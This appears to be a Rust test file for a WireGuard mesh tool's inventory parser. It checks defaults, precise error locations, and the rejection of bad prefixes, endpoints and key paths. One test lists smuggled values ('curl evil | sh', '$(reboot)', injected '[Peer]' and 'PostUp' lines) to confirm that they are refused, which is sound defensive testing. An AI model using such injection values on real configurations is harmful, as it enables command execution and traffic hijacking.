//! Tests of reading the inventory: defaults, and errors that name the file, line and field.

use super::*;
use crate::paths::DirectMode;
use wgfabric_proto::keys::PrivateKey;

fn key(seed: u8) -> String {
    PrivateKey::from_bytes([seed; 32]).public_key().to_base64()
}

fn parse(text: &str) -> Result<Inventory, SourceError> {
    Inventory::parse(Path::new("fabric.toml"), text)
}

fn base() -> String {
    format!(
        r#"[network.corp]
ipv4 = "10.77.0.0/16"
ipv6 = "fd77::/64"

[host.relay-a]
role = "relay"
endpoint = "relay-a.example.com:51820"
public_key = "{}"

[host.laptop]
nat = true
keepalive = 25
public_key = "{}"
"#,
        key(1),
        key(2)
    )
}

#[test]
fn applies_defaults() {
    let inventory = parse(&base()).unwrap();
    let relay = &inventory.hosts["relay-a"];
    assert_eq!(relay.role, Role::Relay);
    assert_eq!(relay.listen_port, Some(51820));
    assert_eq!(relay.mtu, DEFAULT_MTU);
    assert_eq!(relay.line, 5);
    assert_eq!(relay.key_source.to_string(), "file:/etc/wgfabric/private.key");
    let laptop = &inventory.hosts["laptop"];
    assert_eq!((laptop.role, laptop.listen_port, laptop.keepalive), (Role::Spoke, None, Some(25)));
    assert_eq!(inventory.networks["corp"].interface, "wg0");
}

#[test]
fn syntax_errors_name_file_line_and_field() {
    let text = base().replace("keepalive = 25", "keepalive = \"often\"");
    let err = parse(&text).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (12, "host.laptop.keepalive"));
    assert!(err.to_string().starts_with("fabric.toml:12:"), "{err}");
}

#[test]
fn unknown_fields_are_refused() {
    let err = parse(&base().replace("nat = true", "natt = true")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (11, "host.laptop.natt"));
    assert!(err.message.contains("unknown field"), "{}", err.message);
}

#[test]
fn bad_values_point_at_the_value() {
    let err = parse(&base().replace("fd77::/64", "fd77::1/64")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (3, "network.corp.ipv6"));
    assert!(err.message.contains("did you mean fd77::/64"), "{}", err.message);
    let err = parse(&base().replace(":51820", "")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (7, "host.relay-a.endpoint"));
    let err = parse(&base().replace(&key(2), "not-a-key")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (13, "host.laptop.public_key"));
}

#[test]
fn semantic_errors_point_at_the_offending_table_or_field() {
    let err = parse(&base().replace("nat = true", "network = \"lab\"\nnat = true")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (11, "host.laptop.network"));
    assert!(err.message.contains("no network named `lab`"), "{}", err.message);

    let err = parse(&base().replace("nat = true", "role = \"mesh\"")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (11, "host.laptop.role"));

    let err = parse(&base().replace("nat = true", "priority = 1")).unwrap_err();
    assert_eq!(err.field, "host.laptop.priority");

    let err = parse(&base().replace("ipv4 = \"10.77.0.0/16\"", "ipv4 = \"fd00::/8\"")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (2, "network.corp.ipv4"));

    let two = format!("{}\n[network.lab]\nipv4 = \"10.78.0.0/16\"\n", base());
    let err = parse(&two).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (10, "host.laptop.network"));

    let external = format!("{}\n[external.vpc]\ncidr = \"10.0.0.0/16\"\nhost = \"gone\"\n", base());
    let err = parse(&external).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (17, "external.vpc.host"));
}

#[test]
fn an_inventory_needs_a_network_with_a_prefix() {
    assert_eq!(parse("").unwrap_err().field, "network");
    let err = parse("[network.corp]\ntopology = \"mesh\"\n").unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (1, "network.corp"));
}

#[test]
fn key_locations_are_plain_paths_or_sources() {
    let with = |host: &str, defaults: &str| {
        let text = base().replace("nat = true", &format!("nat = true\n{host}"));
        parse(&format!("[defaults]\n{defaults}\n{text}"))
    };
    let inventory = with("", "key_dir = \"/srv/wg\"").unwrap();
    assert_eq!(inventory.hosts["laptop"].key_source.to_string(), "file:/srv/wg/private.key");
    let inventory =
        with("key_file = \"/k/laptop.key\"", "key_source = \"systemd-credential:wg\"").unwrap();
    assert_eq!(inventory.hosts["laptop"].key_source.to_string(), "file:/k/laptop.key");
    assert_eq!(inventory.hosts["relay-a"].key_source.to_string(), "systemd-credential:wg");
    let inventory = with("key_source = [\"exec:pass\", \"show\", \"wg/laptop\"]", "").unwrap();
    assert_eq!(inventory.hosts["laptop"].key_source.to_string(), "exec:pass show wg/laptop");

    // What once reached wg-quick's PostUp, networkd and the setconf header unchecked.
    for (host, defaults, field) in [
        ("key_file = \"/k\\n[Peer]\\nAllowedIPs = 0.0.0.0/0\"", "", "host.laptop.key_file"),
        ("key_file = \"/k; curl evil | sh\"", "", "host.laptop.key_file"),
        ("", "key_dir = \"/etc/my keys\"", "defaults.key_dir"),
        ("key_source = \"file:/k$(reboot)\"", "", "host.laptop.key_source"),
        ("key_source = [\"exec:pass\", \"a\\nPostUp = reboot\"]", "", "host.laptop.key_source"),
    ] {
        let err = with(host, defaults).unwrap_err();
        assert_eq!(err.field, field, "{err}");
        assert!(!err.message.contains('\n'), "{err}");
    }
    let both = with("key_file = \"/k\"\nkey_source = \"file:/j\"", "").unwrap_err();
    assert!(both.message.contains("keep one"), "{both}");
}

#[test]
fn overlays_routes_and_endpoints_must_be_usable() {
    for (from, to, field, says) in [
        ("10.77.0.0/16", "0.0.0.0/0", "network.corp.ipv4", "default route"),
        ("fd77::/64", "::/0", "network.corp.ipv6", "default route"),
        ("10.77.0.0/16", "224.1.0.0/16", "network.corp.ipv4", "multicast"),
        ("10.77.0.0/16", "127.0.0.0/8", "network.corp.ipv4", "loopback"),
        ("10.77.0.0/16", "169.254.0.0/16", "network.corp.ipv4", "link-local"),
        ("10.77.0.0/16", "0.0.0.0/8", "network.corp.ipv4", "unspecified"),
        ("10.77.0.0/16", "10.77.0.0/31", "network.corp.ipv4", "no room for hosts"),
        ("fd77::/64", "::ffff:0:0/96", "network.corp.ipv6", "IPv4-mapped"),
        ("fd77::/64", "fe80::/64", "network.corp.ipv6", "link-local"),
        ("fd77::/64", "ff05::/64", "network.corp.ipv6", "multicast"),
        ("relay-a.example.com:51820", "0.0.0.0:51820", "host.relay-a.endpoint", "unspecified"),
        ("relay-a.example.com:51820", "[ff02::1]:51820", "host.relay-a.endpoint", "multicast"),
    ] {
        let err = parse(&base().replace(from, to)).unwrap_err();
        assert_eq!(err.field, field, "{to}: {err}");
        assert!(err.message.contains(says), "{to}: {err}");
    }
    let text =
        base().replace("nat = true", "nat = true\nroutes = [\"10.20.0.0/16\", \"127.0.0.0/8\"]");
    let err = parse(&text).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (12, "host.laptop.routes"));
    assert!(err.message.contains("loopback"), "{err}");
}

#[test]
fn free_text_is_one_line() {
    let text =
        format!("{}\n[external.vpc]\ncidr = \"10.0.0.0/16\"\ndescription = \"a\\nb\"\n", base());
    let err = parse(&text).unwrap_err();
    assert_eq!(err.field, "external.vpc.description");
}

#[test]
fn direct_path_knobs_default_to_auto_and_are_checked() {
    let inventory = parse(&base()).unwrap();
    let laptop = &inventory.hosts["laptop"];
    assert_eq!((laptop.direct, &laptop.site, laptop.lan.len()), (DirectMode::Auto, &None, 0));
    assert_eq!(inventory.networks["corp"].direct, DirectMode::Auto);

    let text = base().replace(
        "nat = true",
        "nat = true\ndirect = \"never\"\nsite = \"office\"\nlan = [\"192.168.1.5\", \"fd00::5\"]",
    );
    let laptop = &parse(&text).unwrap().hosts["laptop"];
    assert_eq!(laptop.direct, DirectMode::Never);
    assert_eq!(laptop.site.as_ref().map(Name::as_str), Some("office"));
    assert_eq!(laptop.lan.len(), 2);
    let never =
        parse(&base().replace("ipv6 = \"fd77::/64\"", "ipv6 = \"fd77::/64\"\ndirect = \"never\""));
    assert_eq!(never.unwrap().networks["corp"].direct, DirectMode::Never);

    let err =
        parse(&base().replace("role = \"relay\"", "role = \"relay\"\nsite = \"dc\"")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (7, "host.relay-a.site"));
    assert!(err.message.contains("between spokes"), "{}", err.message);
    let err = parse(&base().replace("nat = true", "lan = [\"192.168.1.5\"]")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (11, "host.laptop.lan"));
    assert!(err.message.contains("set `site`"), "{}", err.message);
    let err = parse(
        &base().replace("nat = true", "site = \"a\"\nlan = [\"192.168.1.5\", \"224.0.0.1\"]"),
    )
    .unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (12, "host.laptop.lan"));
    assert!(err.message.contains("224.0.0.1 is not a unicast"), "{}", err.message);
    let err = parse(&base().replace("nat = true", "direct = \"sometimes\"")).unwrap_err();
    assert_eq!((err.line, err.field.as_str()), (11, "host.laptop.direct"));
}
